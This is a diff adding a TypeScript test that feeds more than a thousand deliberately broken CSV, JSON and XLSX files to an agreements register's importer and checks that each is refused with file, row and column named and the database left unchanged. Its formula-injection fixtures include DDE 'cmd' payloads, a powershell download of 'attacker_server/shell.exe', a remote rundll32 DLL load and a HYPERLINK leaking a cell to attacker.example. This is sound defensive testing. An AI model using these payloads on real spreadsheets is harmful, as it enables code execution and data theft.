@@ -1,0 +1,301 @@
+// A corpus of 1,000+ broken import files (CSV, JSON and XLSX: rows cut short,
+// wrong cell counts, impossible dates, cycles, contradictions, formulas,
+// wrong JSON types, cells over their column's limit, workbooks with stray far
+// cells and floods of blank rows). Each goes through the verbs as the command
+// line runs them, once as a dry run and once for real, and must be refused
+// both times with the same problems, each naming its file and, where the
+// defect is in a row, that row and column; the database is compared with a
+// fingerprint of every table's contents after each file, not assumed
+// unchanged.
+import { Writable } from 'node:stream';
+import { parse } from 'csv-parse/sync';
+import { stringify } from 'csv-stringify/sync';
+import ExcelJS from 'exceljs';
+import { sql } from 'drizzle-orm';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { queryRows } from '../../src/db/client.ts';
+import type { Context } from '../../src/domain/context.ts';
+import { DomainError } from '../../src/domain/errors.ts';
+import { applyImport } from '../../src/domain/transfer/exchange/apply.ts';
+import { writeCsv } from '../../src/domain/transfer/exchange/export.ts';
+import { COLUMNS } from '../../src/domain/transfer/exchange/format.ts';
+import { planImport } from '../../src/domain/transfer/exchange/plan.ts';
+import { readFiles, type InputFile, type Problem } from '../../src/domain/transfer/exchange/read.ts';
+import { openTestDatabase, systemCtx, type TestDatabase } from '../support/database.ts';
+
+let shipped: TestDatabase;
+beforeAll(async () => {
+  shipped = await openTestDatabase();
+});
+afterAll(async () => shipped?.close());
+
+async function exportTable(ctx: Context, table: 'actors' | 'counterparts' | 'agreements'): Promise<string[][]> {
+  const chunks: Buffer[] = [];
+  await writeCsv(ctx, table, new Writable({ write: (chunk, _e, done) => (chunks.push(Buffer.from(chunk)), done()) }));
+  return parse(Buffer.concat(chunks).toString().replace(/^\uFEFF/, '')) as string[][];
+}
+
+/** Row counts and a hash of every table's rows (in the order of their text), in one statement. */
+async function fingerprint(ctx: Context): Promise<Record<string, string>> {
+  const tables = await queryRows<{ name: string }>(ctx.db, sql`select tablename as name from pg_tables where schemaname = 'public' order by tablename`);
+  const parts = tables.map((t) => sql`${t.name}::text, (select count(*) || ':' || coalesce(md5(string_agg(x::text, E'\\n' order by x::text)), '') from ${sql.identifier(t.name)} x)`);
+  const [row] = await queryRows<{ f: Record<string, string> }>(ctx.db, sql`select json_build_object(${sql.join(parts, sql`, `)}) as f`);
+  return row!.f;
+}
+
+interface Verdict {
+  refused: boolean;
+  problems: Problem[];
+}
+
+/** What the command line does with files: read, plan, then apply (or apply rolled back). */
+async function verdict(ctx: Context, files: InputFile[], dryRun: boolean): Promise<Verdict> {
+  const read = await readFiles(files);
+  const plan = await planImport(ctx, read.tables, read.problems);
+  if (plan.problems.length) return { refused: true, problems: plan.problems };
+  try {
+    await applyImport(ctx, plan, { dryRun });
+    return { refused: false, problems: [] };
+  } catch (error) {
+    if (!(error instanceof DomainError)) throw error;
+    return { refused: true, problems: [{ file: files.map((f) => f.name).join(', '), message: error.message }] };
+  }
+}
+
+interface Broken {
+  name: string;
+  files: InputFile[];
+  /** Where the defect is, when it is in one row: the row as a spreadsheet numbers it, and the column. */
+  row?: number;
+  column?: string;
+}
+
+function rng(seed: number) {
+  let x = seed;
+  return () => (x = (x * 1103515245 + 12345) % 2147483648) / 2147483648;
+}
+
+// Formula payloads: payloadbox/csv-injection-payloads (README.md,
+// https://github.com/payloadbox/csv-injection-payloads), OWASP's "CSV
+// Injection" (https://owasp.org/www-community/attacks/CSV_Injection), and
+// the one of issue 18.
+const PAYLOADS = [
+  '=DDE("cmd";"/C calc";"!A0")A0',
+  "@SUM(1+9)*cmd|' /C calc'!A0",
+  "=10+20+cmd|' /C calc'!A0",
+  "=cmd|' /C notepad'!'A1'",
+  "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
+  "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
+  '=HYPERLINK("http://attacker.example/?leak="&A1,"Klicka")',
+  "-2+3+cmd|' /C calc'!A0",
+  "+cmd|' /C calc'!A0",
+  "-cmd|' /C calc'!A0",
+  '@SUM(A1:A2)',
+  '=1+1',
+];
+/** The same payload as it hides: behind blanks, a tab, a return, a no-break space, or with a full-width sign. */
+const hidden = (payload: string): string[] => [
+  payload,
+  ` ${payload}`,
+  `\t${payload}`,
+  `\r\n${payload}`,
+  `\u00a0${payload}`,
+  payload.replace(/^[=+\-@]/, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)),
+];
+
+describe('a corpus of broken import files', () => {
+  let header: string[];
+  let base: string[][];
+  let register: string[][];
+  let actors: string[][];
+  const col = (name: string) => header.indexOf(name);
+
+  beforeAll(async () => {
+    register = await exportTable(shipped.anonymous, 'agreements');
+    header = register[0]!;
+    base = register.slice(0, 9);
+    actors = (await exportTable(shipped.anonymous, 'actors')).slice(0, 6);
+  });
+
+  const csv = (sheet: string[][], delimiter = ',') => Buffer.from(stringify(sheet, { bom: true, delimiter }));
+  const withCell = (sheet: string[][], row: number, column: string, value: string) => sheet.map((r, i) => (i === row - 1 ? r.map((c, j) => (j === sheet[0]!.indexOf(column) ? value : c)) : r));
+
+  async function xlsx(sheet: Array<Array<ExcelJS.CellValue>>, extra?: (ws: ExcelJS.Worksheet) => void): Promise<Buffer> {
+    const workbook = new ExcelJS.Workbook();
+    const ws = workbook.addWorksheet('agreements');
+    for (const row of sheet) ws.addRow(row);
+    extra?.(ws);
+    return Buffer.from(await workbook.xlsx.writeBuffer());
+  }
+
+  async function cases(): Promise<Broken[]> {
+    const random = rng(18);
+    const list: Broken[] = [];
+    const rows = base.length;
+    const width = header.length;
+    const file = (sheet: string[][], delimiter = ',') => [{ name: 'agreements.csv', bytes: csv(sheet, delimiter) }];
+
+    // Rows cut short and rows too long, in every row, at many places.
+    for (let r = 2; r <= rows; r++) {
+      for (let keep = 1; keep < width; keep++) {
+        list.push({ name: `row ${r} cut to ${keep} cells`, files: file(base.map((x, i) => (i === r - 1 ? x.slice(0, keep) : x)), keep % 4 ? ',' : ';'), row: r, column: header[keep] });
+      }
+      for (const more of [1, 2, 5]) list.push({ name: `row ${r} with ${more} cells more`, files: file(base.map((x, i) => (i === r - 1 ? [...x, ...Array(more).fill('x')] : x))), row: r, column: String(width + 1) });
+    }
+    // A file cut off inside its last row (a download or copy that stopped).
+    const text = stringify(base);
+    for (let k = 0; k < 40; k++) {
+      const lastStart = text.lastIndexOf('\n', text.length - 2) + 1;
+      const lastRow = text.slice(lastStart);
+      const cutAt = lastStart + 1 + Math.floor(random() * (lastRow.lastIndexOf(',') - 1));
+      list.push({ name: `file cut at byte ${cutAt}`, files: [{ name: 'cut.csv', bytes: Buffer.from(text.slice(0, cutAt)) }], row: rows });
+    }
+
+    // Impossible and undocumented dates in every date column and row.
+    const dates = ['2019-02-29', '1900-02-29', '0000', '0000-01-01', '2019-21', '2019-24', '2019-13', '2019-00', '2019-04-31', '2022/2002', '2019?', '201X', '2019-05-14T10:00', '[2019,2020]', '{2019..2021}', 'Y12019'];
+    for (let r = 2; r <= rows; r++) {
+      for (const date of dates) {
+        for (const column of ['event_date', random() < 0.5 ? 'signed_on' : 'ends_on']) list.push({ name: `${column} ${date}`, files: file(withCell(base, r, column, date)), row: r, column });
+      }
+    }
+
+    // Formulas in text columns, plain and hidden.
+    const textColumns = ['official_title', 'funding', 'term', 'summary', 'event_note', 'deciding_body', 'reference', 'case_number', 'renewal_rule', 'themes'];
+    for (const payload of PAYLOADS) {
+      for (const variant of hidden(payload)) {
+        for (let k = 0; k < 2; k++) {
+          const r = 2 + Math.floor(random() * (rows - 1));
+          const column = textColumns[Math.floor(random() * textColumns.length)]!;
+          list.push({ name: `formula ${JSON.stringify(variant)} in ${column}`, files: file(withCell(base, r, column, variant)), row: r, column });
+        }
+      }
+    }
+
+    // Cells over their column's limit, in every column, and a few of a megabyte.
+    for (const c of COLUMNS.agreements) {
+      const r = 2 + Math.floor(random() * (rows - 1));
+      list.push({ name: `${c.name} of ${c.max + 1} characters`, files: file(withCell(base, r, c.name, 'x'.repeat(c.max + 1))), row: r, column: c.name });
+    }
+    for (const column of ['summary', 'event_note', 'parties']) list.push({ name: `1 MB in ${column}`, files: file(withCell(base, 3, column, 'å'.repeat(1 << 20))), row: 3, column });
+
+    // Contradictions: a municipality code with another body's name; an actor's code and id naming two bodies.
+    const kalixName = 'Kalix kommun';
+    for (let r = 2; r <= rows; r++) {
+      const parties = base[r - 1]![col('parties')]!;
+      const coded = /^(\d{4}) /.exec(parties);
+      if (coded) list.push({ name: `row ${r}: code ${coded[1]} with the name ${kalixName}`, files: file(withCell(base, r, 'parties', parties.replace(/^(\d{4}) [^|]*/, `$1 ${kalixName}`))), row: r, column: 'parties' });
+    }
+    const actorCode = actors[0]!.indexOf('municipality_code');
+    const coded = actors.slice(1).filter((a) => a[actorCode]);
+    for (const [i, a] of coded.entries()) {
+      const other = coded[(i + 1) % coded.length]!;
+      if (other === a) continue;
+      const row = a.map((c, j) => (j === actorCode ? other[actorCode]! : c));
+      list.push({ name: `actor ${a[0]} with ${other[0]}'s code`, files: [{ name: 'actors.csv', bytes: csv([actors[0]!, row]) }], row: 2, column: 'municipality_code' });
+    }
+
+    // Cycles: agreements that are their own parent or ancestor, in the file and with the register.
+    const slugs = [...new Set(register.slice(1).map((r) => r[0]!))];
+    const rowsOf = (slug: string) => register.filter((r, i) => i > 0 && r[0] === slug);
+    const withParent = (slug: string, parent: string) => rowsOf(slug).map((r) => r.map((c, j) => (j === col('parent') ? parent : c)));
+    for (let k = 0; k < 12; k++) {
+      const a = slugs[(k * 7) % slugs.length]!;
+      const b = slugs[(k * 7 + 3) % slugs.length]!;
+      list.push({ name: `${a} its own parent`, files: file([header, ...withParent(a, a)]), row: 2, column: 'parent' });
+      list.push({ name: `${a} and ${b} each other's parent`, files: file([header, ...withParent(a, b), ...withParent(b, a)]), row: 2, column: 'parent' });
+    }
+    // The register has goteborg--shanghai--2003 inside goteborg--shanghai.
+    list.push({ name: 'goteborg--shanghai inside its own child', files: file([header, ...withParent('goteborg--shanghai', 'goteborg--shanghai--2003')]), row: 2, column: 'parent' });
+    // Counterparts: inside each other in the file, inside itself, moved.
+    const places = 'counterpart,country,parent,name_latin,level\n';
+    for (let k = 0; k < 10; k++) {
+      list.push({ name: 'places inside each other', files: [{ name: 'places.csv', bytes: Buffer.from(`${places}ort-a-${k},CN,ort-b-${k},Ort A${k},county\nort-b-${k},CN,ort-a-${k},Ort B${k},county\n`) }], row: 2, column: 'parent' });
+    }
+    list.push({ name: 'Lanzhou inside itself', files: [{ name: 'places.csv', bytes: Buffer.from(`${places}lanzhou,CN,Gansu > Lanzhou,Lanzhou,prefecture_city\n`) }], row: 2, column: 'parent' });
+    list.push({ name: 'Gansu inside Lanzhou', files: [{ name: 'places.csv', bytes: Buffer.from(`${places}gansu,CN,Gansu > Lanzhou,Gansu,province\n`) }], row: 2, column: 'parent' });
+    list.push({ name: 'Lanzhou moved to Zhejiang', files: [{ name: 'places.csv', bytes: Buffer.from(`${places}lanzhou,CN,Zhejiang,Lanzhou,prefecture_city\n`) }], row: 2, column: 'parent' });
+
+    // JSON: values of the wrong type in every column, and broken files.
+    const objects = base.slice(1).map((r) => Object.fromEntries(header.flatMap((h, j) => (r[j] ? [[h, r[j]]] : []))));
+    for (const c of COLUMNS.agreements) {
+      for (const value of [true, false, 12, 1.5, null, {}, [], ['a'], { text: 'x' }]) {
+        if (c.number && typeof value === 'number') continue;
+        const r = 2 + Math.floor(random() * objects.length);
+        const json = { agreements: objects.map((o, i) => (i === r - 2 ? { ...o, [c.name]: value } : o)) };
+        list.push({ name: `json ${c.name}: ${JSON.stringify(value)}`, files: [{ name: 'a.json', bytes: Buffer.from(JSON.stringify(json)) }], row: r, column: c.name });
+      }
+      const r = 2 + Math.floor(random() * objects.length);
+      const json = { agreements: objects.map((o, i) => (i === r - 2 ? { ...o, [c.name]: 'x'.repeat(c.max + 1) } : o)) };
+      list.push({ name: `json ${c.name} too long`, files: [{ name: 'a.json', bytes: Buffer.from(JSON.stringify(json)) }], row: r, column: c.name });
+    }
+    const whole = JSON.stringify({ agreements: objects });
+    for (let k = 0; k < 20; k++) list.push({ name: 'json cut short', files: [{ name: 'cut.json', bytes: Buffer.from(whole.slice(0, 10 + Math.floor(random() * (whole.length - 20)))) }] });
+    for (const date of dates.slice(0, 8)) {
+      list.push({ name: `json date ${date}`, files: [{ name: 'a.json', bytes: Buffer.from(JSON.stringify({ agreements: objects.map((o, i) => (i === 2 ? { ...o, event_date: date } : o)) })) }], row: 4, column: 'event_date' });
+    }
+
+    // XLSX, with the reader of today and a streaming one alike (kept few: a workbook takes longer).
+    const sheetRows = base.map((r) => [...r]);
+    list.push({ name: 'xlsx formula cell', files: [{ name: 'a.xlsx', bytes: await xlsx(withCell(sheetRows, 3, 'official_title', '').map((r, i) => (i === 2 ? r.map((c, j) => (j === col('official_title') ? { formula: '1+1', result: 2 } : c)) : r))) }], row: 3, column: 'official_title' });
+    for (const payload of PAYLOADS.slice(0, 4)) list.push({ name: `xlsx text ${payload}`, files: [{ name: 'a.xlsx', bytes: await xlsx(withCell(sheetRows, 4, 'summary', payload)) }], row: 4, column: 'summary' });
+    for (const date of ['2019-02-29', '0000', '2019-21']) list.push({ name: `xlsx date ${date}`, files: [{ name: 'a.xlsx', bytes: await xlsx(withCell(sheetRows, 5, 'event_date', date)) }], row: 5, column: 'event_date' });
+    list.push({ name: 'xlsx huge cell', files: [{ name: 'a.xlsx', bytes: await xlsx(withCell(sheetRows, 2, 'event_note', 'x'.repeat(10_001))) }], row: 2, column: 'event_note' });
+    // A stray cell far right (column XFD) in a data row.
+    list.push({ name: 'xlsx stray cell in XFD', files: [{ name: 'a.xlsx', bytes: await xlsx(sheetRows, (ws) => (ws.getCell('XFD3').value = 'stray')) }], row: 3, column: '16384' });
+    // A flood of blank rows (cells written but empty), then a row with a formula.
+    list.push({
+      name: 'xlsx blank-row flood, then a formula',
+      files: [{ name: 'a.xlsx', bytes: await xlsx(sheetRows, (ws) => {
+        for (let r = 0; r < 2_000; r++) ws.addRow(['', '', '']);
+        ws.addRow([...base[1]!.slice(0, col('official_title')), '=cmd|\' /C calc\'!A0', ...base[1]!.slice(col('official_title') + 1)]);
+      }) }],
+      row: rows + 2_001,
+      column: 'official_title',
+    });
+    return list;
+  }
+
+  it('refuses each of 1,000+ broken files in the dry run and in apply alike, naming file, row and column, and leaves the database as it was', { timeout: 600_000 }, async () => {
+    const ctx = systemCtx(shipped);
+    const all = await cases();
+    expect(all.length).toBeGreaterThanOrEqual(1_000);
+    const kinds = { csv: 0, json: 0, xlsx: 0 };
+    for (const c of all) for (const f of c.files) kinds[f.name.endsWith('.json') ? 'json' : f.name.endsWith('.xlsx') ? 'xlsx' : 'csv']++;
+    expect(kinds.json).toBeGreaterThan(200);
+    expect(kinds.xlsx).toBeGreaterThan(5);
+    const before = await fingerprint(ctx);
+
+    // The unbroken base passes both ways and writes nothing (it is the register's own rows): the problems below come from the breakage.
+    const control = [{ name: 'agreements.csv', bytes: csv(base) }];
+    expect(await verdict(ctx, control, true)).toEqual({ refused: false, problems: [] });
+    expect(await verdict(ctx, control, false)).toEqual({ refused: false, problems: [] });
+    expect(await fingerprint(ctx)).toEqual(before);
+
+    const misses: string[] = [];
+    let checked = 0;
+    for (const c of all) {
+      const dry = await verdict(ctx, c.files, true);
+      const applied = await verdict(ctx, c.files, false);
+      const names = c.files.map((f) => f.name);
+      if (!dry.refused) misses.push(`${c.name}: passed`);
+      if (JSON.stringify(dry) !== JSON.stringify(applied)) misses.push(`${c.name}: the dry run said ${JSON.stringify(dry).slice(0, 300)}, apply ${JSON.stringify(applied).slice(0, 300)}`);
+      for (const p of dry.problems) {
+        if (!names.some((n) => p.file.startsWith(n))) misses.push(`${c.name}: a problem names no file of the case: ${JSON.stringify(p).slice(0, 300)}`);
+        if (p.message.length > 400) misses.push(`${c.name}: a message of ${p.message.length} characters`);
+      }
+      if (c.row !== undefined && !dry.problems.some((p) => p.row === c.row && (c.column === undefined || p.column === c.column))) {
+        misses.push(`${c.name}: no problem names row ${c.row}${c.column ? `, column ${c.column}` : ''}: ${JSON.stringify(dry.problems).slice(0, 400)}`);
+      }
+      // Compared every 25 files and after the last: a write would stay, so none can pass unseen.
+      if (++checked % 25 === 0 || checked === all.length) {
+        const now = await fingerprint(ctx);
+        if (JSON.stringify(now) !== JSON.stringify(before)) {
+          misses.push(`the database changed within files ${checked - 24}–${checked} (up to ${c.name}): ${Object.keys(now).filter((t) => now[t] !== before[t]).join(', ')}`);
+          break;
+        }
+      }
+    }
+    expect(misses).toEqual([]);
+    expect(checked).toBe(all.length);
+  });
+});
